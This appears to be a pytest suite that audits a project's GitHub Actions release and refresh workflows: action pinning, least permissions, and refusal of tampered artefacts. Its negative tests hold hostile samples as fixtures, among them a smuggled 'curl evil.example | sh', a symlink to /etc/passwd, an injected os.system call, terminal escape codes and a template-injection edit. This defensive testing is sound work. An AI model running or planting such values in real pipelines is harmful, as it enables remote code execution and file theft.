"""The workflows and the action hwdoctor ships, checked by zizmor (its audits at the
pedantic persona: template injection, unpinned actions, excessive permissions, persisted
credentials, ...) and jactionlint (actionlint's checks, shellcheck on every `run:` script),
and read as GitHub reads them: the release workflow builds with `make dist`, publishes with
PyPI's trusted publishing from a job that alone may ask for an OIDC token, and attaches the
artefacts to a GitHub release; the refresh workflow runs the newest releases in a read-only
job and takes only the data paths from its artefact into the job that may write. Their own
shell steps run here as the runner runs them (tests/actions.py).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any, Final

import pytest
from markdown_it import MarkdownIt

import hwdoctor
from tests.actions import (
    PINNED,
    files,
    load,
    run_step,
    steps,
    uses_lines,
    validator,
    validator_env,
)
from tests.conftest import ROOT
from tests.dist import Artefacts, artefacts, clean_env

__all__ = ["artefacts"]  # the session fixture, used by name

RELEASE = ROOT / ".github" / "workflows" / "release.yml"
REFRESH = ROOT / ".github" / "workflows" / "refresh.yml"
ZIZMOR_CONFIG: Final = ROOT / ".github" / "zizmor.yml"


def test_zizmor_finds_nothing() -> None:
    """zizmor's every audit, offline, at its pedantic persona (which also wants each job
    named and each write permission explained), with .github/zizmor.yml's one policy: every
    action pinned to a commit, GitHub's own included."""
    command = validator("zizmor")
    done = subprocess.run(
        [
            *command,
            "--offline",
            "--persona",
            "pedantic",
            "--config",
            str(ZIZMOR_CONFIG),
            "--format",
            "json",
            *map(str, files()),
        ],
        capture_output=True,
        text=True,
        env=validator_env(),
        cwd=ROOT,
        check=False,
    )
    findings = json.loads(done.stdout or "null")
    assert done.returncode == 0 and findings == [], done.stdout[-4000:] + done.stderr[-4000:]
    audited = [line for line in done.stderr.splitlines() if "completed" in line]
    assert len(audited) == len(files()) == 4, done.stderr  # action.yml, refresh, release, reply


def test_zizmor_would_find_an_unpinned_action(tmp_path: Path) -> None:
    """The check above can fail: the release workflow with one action by tag, and an input
    pasted into a script, is two findings."""
    command = validator("zizmor")
    text = RELEASE.read_text(encoding="utf-8")
    broken = tmp_path / ".github" / "workflows" / "release.yml"
    broken.parent.mkdir(parents=True)
    pinned = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
    assert pinned in text
    text = text.replace(pinned, "actions/checkout@v4", 1)
    text = text.replace("run: make dist", 'run: make dist "${{ github.head_ref }}"', 1)
    broken.write_text(text, encoding="utf-8")
    done = subprocess.run(
        [*command, "--offline", "--config", str(ZIZMOR_CONFIG), "--format", "json", str(broken)],
        capture_output=True,
        text=True,
        env=validator_env(),
        check=False,
    )
    audits = {finding["ident"] for finding in json.loads(done.stdout)}
    assert {"unpinned-uses", "template-injection"} <= audits, audits


def test_actionlint_finds_nothing() -> None:
    """jactionlint (actionlint's checks and its own; constraints/validators.txt says why this
    distribution) on every workflow and on action.yml, shellcheck on every `run:` script."""
    command = validator("jactionlint")
    env = validator_env()
    assert shutil.which("shellcheck", path=env["PATH"]), "jactionlint would skip shellcheck"
    done = subprocess.run(
        [*command, "--no-color", *map(str, files())],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stdout[-6000:] + done.stderr[-2000:]


def test_actionlint_would_find_a_pipe_that_hides_a_failure(tmp_path: Path) -> None:
    command = validator("jactionlint")
    text = REFRESH.read_text(encoding="utf-8")
    broken = tmp_path / ".github" / "workflows" / "refresh.yml"
    broken.parent.mkdir(parents=True)
    broken.write_text(
        text.replace("defaults:\n  run:\n    shell: bash", "", 1).replace(
            "cp -- refresh.log", "cp -- $NOT_QUOTED refresh.log", 1
        ),
        encoding="utf-8",
    )
    done = subprocess.run(
        [*command, "--no-color", str(broken)],
        capture_output=True,
        text=True,
        env=validator_env(),
        check=False,
    )
    assert done.returncode == 1
    assert "[pipeline-without-pipefail]" in done.stdout and "SC2086" in done.stdout, done.stdout


@pytest.mark.parametrize("path", files(), ids=lambda path: path.name)
def test_every_pinned_commit_names_its_release(path: Path) -> None:
    """zizmor checks that each action is pinned to a commit; the comment after it names the
    release that commit is, for the people who update it."""
    lines = uses_lines(path)
    for line in lines:
        target, _, comment = line.removeprefix("uses:").partition("#")
        assert PINNED.match(target.strip()), line
        assert comment.strip().startswith("v"), f"name the release of the commit: {line}"
    used = [step["uses"] for _, step in steps(load(path)) if "uses" in step]
    assert len(used) == len(lines), path


def release() -> dict[str, Any]:
    return load(RELEASE)


def test_release_runs_on_version_tags_only() -> None:
    assert release()["on"] == {"push": {"tags": ["v[0-9]*"]}}


def test_release_permissions_are_the_least_each_job_needs() -> None:
    document = release()
    assert document["permissions"] == {}
    jobs = document["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "build": {"contents": "read"},
        "publish": {"id-token": "write"},
        "github-release": {"contents": "write"},
    }


def test_release_builds_checks_publishes_and_attaches() -> None:
    jobs = release()["jobs"]
    assert jobs["publish"]["needs"] == "build"
    assert jobs["github-release"]["needs"] == "publish"
    build = [step.get("run", "") for step in jobs["build"]["steps"]]
    assert "make dist" in build
    publish = jobs["publish"]
    assert publish["environment"]["name"] == "pypi"
    (step,) = [s for s in publish["steps"] if "gh-action-pypi-publish" in s.get("uses", "")]
    assert "with" not in step  # trusted publishing: no password, no token, dist/ as built
    scripts = " ".join(step.get("run", "") for step in jobs["github-release"]["steps"])
    assert 'gh release create "$TAG" dist/* --verify-tag' in scripts


def step_named(job: str, prefix: str) -> dict[str, Any]:
    found = [s for s in release()["jobs"][job]["steps"] if s.get("name", "").startswith(prefix)]
    assert len(found) == 1, prefix
    return found[0]


def release_contexts(tag: str) -> dict[str, str]:
    return {"github.ref_name": tag}


def test_release_refuses_a_tag_other_than_the_version(artefacts: Artefacts, tmp_path: Path) -> None:
    """The tag step installs the built wheel and compares `hwdoctor --version` with the tag."""
    checkout = tmp_path / "checkout"
    (checkout / "dist").mkdir(parents=True)
    shutil.copy(artefacts.wheel, checkout / "dist")
    shutil.copytree(ROOT / "tests" / "data" / "evidence", checkout / "tests/data/evidence")
    env = clean_env() | {"RUNNER_TEMP": str(tmp_path / "runner")}
    (tmp_path / "runner").mkdir()
    step = step_named("build", "The tag is the version inside")

    right = run_step(step, env=env, contexts=release_contexts(f"v{hwdoctor.__version__}"),
                     cwd=checkout)  # fmt: skip
    assert right.returncode == 0, right
    assert "Usable: cpu. Nothing to fix." in right.stdout

    wrong = run_step(step, env=env, contexts=release_contexts("v9.9.9"), cwd=checkout)
    assert wrong.returncode == 1, wrong
    assert wrong.stdout.startswith(
        f"::error::the tag is v9.9.9 but the wheel says 'hwdoctor {hwdoctor.__version__}'"
    ), wrong


def test_release_needs_the_versions_changelog_section(tmp_path: Path) -> None:
    step = step_named("build", "The changelog has a section")
    changelog = (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
    (tmp_path / "CHANGELOG.md").write_text(changelog, encoding="utf-8")

    missing = run_step(step, env=clean_env(), contexts=release_contexts("v9.9.9"), cwd=tmp_path)
    assert missing.returncode == 1, missing
    assert missing.stdout == "::error::CHANGELOG.md has no section '## [9.9.9]'; move " \
        "[Unreleased] under it and tag again\n"  # fmt: skip

    released = changelog.replace("## [Unreleased]", "## [Unreleased]\n\n## [9.9.9] - 2026-01-01", 1)
    (tmp_path / "CHANGELOG.md").write_text(released, encoding="utf-8")
    found = run_step(step, env=clean_env(), contexts=release_contexts("v9.9.9"), cwd=tmp_path)
    assert found.returncode == 0, found
    notes = (tmp_path / "notes" / "notes.md").read_text(encoding="utf-8")
    unreleased = changelog.split("## [Unreleased]", 1)[1].split("\n## [", 1)[0]
    assert notes.strip() == unreleased.strip()


# --- refresh.yml ----------------------------------------------------------------------------


def refresh() -> dict[str, Any]:
    return load(REFRESH)


def refresh_step(job: str, prefix: str) -> dict[str, Any]:
    found = [s for s in refresh()["jobs"][job]["steps"] if s.get("name", "").startswith(prefix)]
    assert len(found) == 1, prefix
    return found[0]


def test_refresh_runs_the_new_releases_where_nothing_can_be_written() -> None:
    """The weekly run: the job that installs and runs the newest releases reads only, wheels
    only, its pairs' dependencies pinned; the job that may write runs none of the checkout's
    code; the token reaches only the step that pushes."""
    document = refresh()
    triggers = document["on"]
    assert [entry["cron"] for entry in triggers["schedule"]] and "workflow_dispatch" in triggers
    assert document["permissions"] == {}
    jobs = document["jobs"]
    assert {name: job["permissions"] for name, job in jobs.items()} == {
        "verify": {"contents": "read"},
        "pull-request": {"contents": "write", "pull-requests": "write"},
        "verdict": {},
    }
    assert all(0 < job["timeout-minutes"] <= 180 for job in jobs.values())
    verify = jobs["verify"]["steps"]
    assert refresh_step("verify", "Build the dev venv")["env"] == {"PIP_ONLY_BINARY": ":all:"}
    script = refresh_step("verify", "Verify newer releases")["run"]
    assert (
        'export PIP_ONLY_BINARY=":all:" PIP_CONSTRAINT="$RUNNER_TEMP/pairs-constraints.txt"'
        in script
        and "make refresh" in script
    )
    (upload,) = [s for s in verify if "upload-artifact" in s.get("uses", "")]
    assert upload["with"]["path"] == "${{ runner.temp }}/refresh/"
    writer = jobs["pull-request"]
    assert writer["needs"] == "verify"
    # a pull request only where the tables were widened and make refresh ran to its end
    assert writer["if"] == (
        "needs.verify.outputs.widened == 'true' && needs.verify.outputs.status == '0'"
    )
    scripts = " ".join(s.get("run", "") for s in writer["steps"])
    ran = ("\nmake ", ".venv/", "pip install", "python -m", "tools/", "pytest")
    assert not any(word in scripts for word in ran), (
        "the job that may write runs no code of the checkout"
    )
    tokens = [
        (job, s.get("name"))
        for job, j in jobs.items()
        for s in j["steps"]
        if "github.token" in json.dumps(s)
    ]
    assert tokens == [("pull-request", "Open a pull request with the widened tables")]


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout


DATA_PATHS: Final = (
    "hwdoctor/rules/provenance.json",
    "tests/data/releases/transformers.txt",
    "tests/data/releases/accelerate.txt",
    # the tables make refresh generates (tools/wheel_builds.py, model_types.py, sonames.py,
    # exported_names.py, companions.py)
    "hwdoctor/compat/builds_table.txt",
    "hwdoctor/compat/model_types_table.txt",
    "hwdoctor/compat/sonames_table.txt",
    "hwdoctor/compat/exported_names_table.txt",
    "hwdoctor/compat/companions_table.txt",
)
# the PyPI answers tools/wheel_builds.py keeps, which the builds table is generated from
PYPI: Final = tuple(
    str(p.relative_to(ROOT)) for p in sorted((ROOT / "tests" / "data" / "pypi").glob("*.json"))
)


def checkout(tmp_path: Path) -> Path:
    """A git checkout with the data make refresh writes, as they are here, and a module."""
    repo = tmp_path / "checkout"
    for path in (*DATA_PATHS, *PYPI, "hwdoctor/cli.py"):
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ROOT / path, repo / path)
    git(repo, "init", "-q")
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "main")
    return repo


def runner_env(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "runner").mkdir(exist_ok=True)
    return clean_env() | {"RUNNER_TEMP": str(tmp_path / "runner")}


def widen(repo: Path) -> None:
    """What a run of make refresh that widened the tables leaves."""
    provenance = json.loads((repo / DATA_PATHS[0]).read_text(encoding="utf-8"))
    provenance["libraries"]["accelerate"]["newest"] = "99.0.0"
    (repo / DATA_PATHS[0]).write_text(json.dumps(provenance, indent=2) + "\n")
    with (repo / DATA_PATHS[2]).open("a", encoding="utf-8") as releases:
        releases.write("99.0.0\n")
    # tools/model_types.py's table read again, and a package wheel_builds.py reads first
    table = repo / DATA_PATHS[4]
    table.write_text(table.read_text(encoding="utf-8") + "newtype 99.0.0\n", encoding="utf-8")
    (repo / PYPI[0]).with_name("newpackage.json").write_text('{"releases": {}}\n')


def collected(tmp_path: Path, widened: bool) -> tuple[Path, dict[str, str]]:
    repo = checkout(tmp_path)
    if widened:
        widen(repo)
    (repo / "refresh.log").write_text("accelerate 99.0.0: all 39 worlds agree\n")
    env = runner_env(tmp_path)
    ran = run_step(refresh_step("verify", "Collect the data"), env=env, contexts={}, cwd=repo)
    assert ran.returncode == 0, ran
    return tmp_path / "runner" / "refresh", ran.outputs


def test_refresh_uploads_the_data_paths_and_the_log_only(tmp_path: Path) -> None:
    artefact, outputs = collected(tmp_path, widened=True)
    assert outputs == {"widened": "true"}
    inside = sorted(str(p.relative_to(artefact)) for p in artefact.rglob("*") if p.is_file())
    assert inside == sorted([*DATA_PATHS, *PYPI, "tests/data/pypi/newpackage.json", "refresh.log"])
    _, unchanged = collected(tmp_path / "again", widened=False)
    assert unchanged == {"widened": "false"}


def test_refresh_reads_a_run_that_changed_only_dates_as_not_widened(tmp_path: Path) -> None:
    """Every run writes the day's date into each generated table and PyPI answer: a run that
    found nothing newer changes those lines only, and opens no pull request."""
    repo = checkout(tmp_path)
    table = repo / DATA_PATHS[3]
    lines = table.read_text(encoding="utf-8").splitlines(keepends=True)
    dated = [re.sub(r"^(read|@\S+) \d{4}-\d{2}-\d{2}", r"\1 2099-01-01", line) for line in lines]
    assert dated != lines
    table.write_text("".join(dated), encoding="utf-8")
    answer = repo / PYPI[0]
    answer.write_text(
        re.sub(r'"read": "[\d-]+"', '"read": "2099-01-01"', answer.read_text(encoding="utf-8")),
        encoding="utf-8",
    )
    (repo / "refresh.log").write_text("nothing newer\n")
    env = runner_env(tmp_path)
    ran = run_step(refresh_step("verify", "Collect the data"), env=env, contexts={}, cwd=repo)
    assert ran.returncode == 0, ran
    assert ran.outputs == {"widened": "false"}


def take(tmp_path: Path, spoil: Any = None) -> tuple[Any, Path]:
    """The write job's check of the artefact, on a fresh checkout, after `spoil(artefact)`."""
    artefact, _ = collected(tmp_path / "verify", widened=True)
    if spoil is not None:
        spoil(artefact)
    repo = checkout(tmp_path / "write")
    step = refresh_step("pull-request", "Take only the data paths")
    env = runner_env(tmp_path / "verify")
    return run_step(step, env=env, contexts={}, cwd=repo), repo


def test_refresh_applies_an_artefact_of_data_paths(tmp_path: Path) -> None:
    ran, repo = take(tmp_path)
    assert ran.returncode == 0, ran
    changed = sorted(line[3:] for line in git(repo, "status", "--porcelain").splitlines())
    new = "tests/data/pypi/newpackage.json"
    assert changed == sorted([DATA_PATHS[0], DATA_PATHS[2], DATA_PATHS[4], new])
    assert "99.0.0" in (repo / DATA_PATHS[2]).read_text().split()
    assert (repo / DATA_PATHS[4]).read_text().endswith("newtype 99.0.0\n")


def _extra_module(artefact: Path) -> None:
    (artefact / "hwdoctor" / "cli.py").write_text("import os; os.system('id')\n")


def _workflow(artefact: Path) -> None:
    (artefact / ".github" / "workflows").mkdir(parents=True)
    (artefact / ".github" / "workflows" / "refresh.yml").write_text("on: push\n")


def _link(artefact: Path) -> None:
    target = artefact / DATA_PATHS[2]
    target.unlink()
    target.symlink_to("/etc/passwd")


def _fifo(artefact: Path) -> None:
    (artefact / DATA_PATHS[1]).unlink()
    os.mkfifo(artefact / DATA_PATHS[1])


def _not_json(artefact: Path) -> None:
    (artefact / DATA_PATHS[0]).write_text("{ not json\n")


def _not_a_release(artefact: Path) -> None:
    with (artefact / DATA_PATHS[1]).open("a") as releases:
        releases.write("5.0; curl evil.example | sh\n")


def _missing_log(artefact: Path) -> None:
    (artefact / "refresh.log").unlink()


def _foreign_table(artefact: Path) -> None:
    (artefact / DATA_PATHS[3]).write_text("import os\n")


def _control_in_table(artefact: Path) -> None:
    with (artefact / DATA_PATHS[5]).open("a") as table:
        table.write("libevil.so.1\t\x1b]8;;https://evil.example\x07x\n")


def _recording_not_json(artefact: Path) -> None:
    (artefact / PYPI[0]).write_text("{ not json\n")


def _row_cut_short(artefact: Path) -> None:
    with (artefact / DATA_PATHS[3]).open("a") as table:
        table.write("@decord 2026-12-07\n")  # a package's line without its newest release


def _too_many_recordings(artefact: Path) -> None:
    for number in range(201):
        (artefact / "tests" / "data" / "pypi" / f"package{number}.json").write_text("{}\n")


def _script_among_recordings(artefact: Path) -> None:
    (artefact / "tests" / "data" / "pypi" / "run.sh").write_text("id\n")


@pytest.mark.parametrize(
    ("spoil", "error"),
    [
        (_extra_module, "has a path make refresh does not write: hwdoctor/cli.py"),
        (_workflow, "has a path make refresh does not write: .github/workflows/refresh.yml"),
        (_link, "has a link: tests/data/releases/accelerate.txt"),
        (_fifo, "has something other than a file: tests/data/releases/transformers.txt"),
        (_not_json, "has a provenance.json that is not JSON of at most 1 MiB"),
        (_not_a_release, "has a transformers.txt that is not one release per line"),
        (_missing_log, "lacks refresh.log"),
        (_foreign_table, "has a builds_table.txt that is not its generator's table"),
        (_control_in_table, "has a sonames_table.txt that is not its generator's table"),
        (_recording_not_json, f"has a {Path(PYPI[0]).name} that is not JSON of at most 1 MiB"),
        (_row_cut_short, "has a builds_table.txt that is not its generator's table"),
        (_too_many_recordings, f"has {len(PYPI) + 202} PyPI answers, more than 200"),
        (
            _script_among_recordings,
            "has a path make refresh does not write: tests/data/pypi/run.sh",
        ),
    ],
    ids=lambda value: getattr(value, "__name__", "")[1:],
)
def test_refresh_refuses_an_artefact_with_anything_else(
    tmp_path: Path, spoil: Any, error: str
) -> None:
    ran, repo = take(tmp_path, spoil)
    assert ran.returncode == 1, ran
    assert ran.stdout == f"::error::the refresh artefact {error}; nothing was applied\n", ran
    assert git(repo, "status", "--porcelain") == ""


def body(tmp_path: Path, log: bytes) -> str:
    artefact = tmp_path / "runner" / "refresh"
    artefact.mkdir(parents=True)
    (artefact / "refresh.log").write_bytes(log)
    step = refresh_step("pull-request", "Write the pull request's body")
    ran = run_step(step, env=runner_env(tmp_path), contexts={}, cwd=tmp_path)
    assert ran.returncode == 0, ran
    return (tmp_path / "runner" / "body.md").read_text(encoding="utf-8")


def test_the_pull_requests_log_stays_inside_its_fence(tmp_path: Path) -> None:
    """A release's source diff may hold fences of its own (a docstring's ```python, a run of
    seven backticks): the body opens with more backticks than any run in the log, so a
    Markdown reader (CommonMark, as GitHub's is) sees the whole log as one code block."""
    log = (
        b"accelerate 99.0.0: 1 of 2 worlds disagree\n"
        b"+    ```python\n```\n# closed?\n```````\n## not a heading\n@someone\n"
    )
    text = body(tmp_path, log)
    tokens = MarkdownIt("commonmark").parse(text)
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and fences[0].info == "text"
    assert fences[0].content == log.decode() + "\n"
    assert [t.type for t in tokens if t.type.endswith("_open")] == ["paragraph_open"]
    assert text.splitlines()[2] == "`" * 8 + "text"


def test_the_pull_requests_log_is_the_tail_in_utf_8(tmp_path: Path) -> None:
    """GitHub takes 65,536 characters of a body: the last 60,000 bytes of the log, without
    the bytes a cut through a character (or a release's own bytes) leaves undecodable."""
    log = b"x" * 70_000 + b"\xff\xfe caf\xc3\xa9\n"
    text = body(tmp_path, log)
    (fence,) = [t for t in MarkdownIt("commonmark").parse(text) if t.type == "fence"]
    assert fence.content.endswith(" café\n\n") and len(fence.content) < 60_002
    assert fence.info == "text" and text.splitlines()[2] == "```text"


@pytest.mark.parametrize(("status", "code"), [("0", 0), ("1", 1)])
def test_refresh_fails_where_a_release_disagrees(tmp_path: Path, status: str, code: int) -> None:
    (step,) = refresh()["jobs"]["verdict"]["steps"]
    ran = run_step(
        step, env=clean_env(), contexts={"needs.verify.outputs.status": status}, cwd=tmp_path
    )
    assert ran.returncode == code, ran
    assert ran.stdout.startswith("::error::make refresh found a release") == bool(code)
